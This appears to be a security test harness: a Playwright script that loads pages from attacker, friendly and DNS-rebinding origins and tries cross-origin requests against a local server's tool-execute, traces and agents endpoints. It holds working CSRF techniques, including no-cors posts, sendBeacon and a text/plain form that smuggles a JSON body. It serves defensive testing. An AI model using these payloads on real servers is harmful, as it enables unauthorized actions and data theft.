// Attacks a local server from pages of several origins in a real browser; prints what they achieved.
import { chromium } from "playwright-core";

const [browserPath, server, attackers, friends, rebound] = process.argv.slice(2);
const browser = await chromium.launch({
  executablePath: browserPath,
  args: ["--no-sandbox", "--no-proxy-server", "--host-resolver-rules=MAP *.example 127.0.0.1"],
});
const tool = `${server}/api/tools/mark/execute`;
const traces = `${server}/api/observability/traces`;

const attack = async ({ server, tool, traces }) => {
  const body = JSON.stringify({ data: { word: location.host } });
  const post = (options) =>
    fetch(tool, { method: "POST", body, ...options })
      .then((response) => response.text())
      .catch(() => "");
  const load = (tag, url) =>
    new Promise((resolve) => {
      const element = Object.assign(document.createElement(tag), { src: url });
      element.onload = () => resolve(tag);
      element.onerror = () => resolve("");
      document.body.append(element);
    });
  const submit = () =>
    new Promise((resolve) => {
      document.body.insertAdjacentHTML(
        "beforeend",
        `<iframe name="f"></iframe><form method="post" enctype="text/plain" target="f"><input></form>`,
      );
      const form = document.forms[0];
      form.action = tool;
      form.elements[0].name = body.slice(0, -1) + ',"x":"';
      form.elements[0].value = '"}';
      form.submit();
      setTimeout(resolve, 500);
    });
  const read = (url) => fetch(url).then((response) => response.text()).catch(() => "");
  const json = { headers: { "content-type": "application/json" } };
  await post({ mode: "no-cors" });
  await post({ mode: "no-cors", body: new Blob([body]) });
  navigator.sendBeacon(tool, body);
  await submit();
  return {
    text: await post({}),
    json: await post(json),
    traces: await read(traces),
    agents: await read(`${server}/api/agents`),
    probe: await read(`${server}/__mastra/dev`),
    script: await load("script", `${server}/script.js`),
    image: await load("img", `${server}/image.svg`),
  };
};

const seen = {};
for (const [kind, origin] of [...attackers.split(",").map((each) => [each, each]), ["friend", friends]]) {
  const page = await browser.newPage();
  await page.goto(origin);
  seen[kind] = await page.evaluate(attack, { server, tool, traces });
  if (kind !== "friend") {
    await page.setContent(`<a href="${server}/api/agents">open</a>`);
    const [answer] = await Promise.all([page.waitForNavigation(), page.click("a")]);
    seen[kind].link = answer.status();
  }
  await page.close();
}
const page = await browser.newPage();
seen.rebound = (await page.goto(`${rebound}/api/agents`)).status();
await browser.close();
console.log(JSON.stringify(seen));
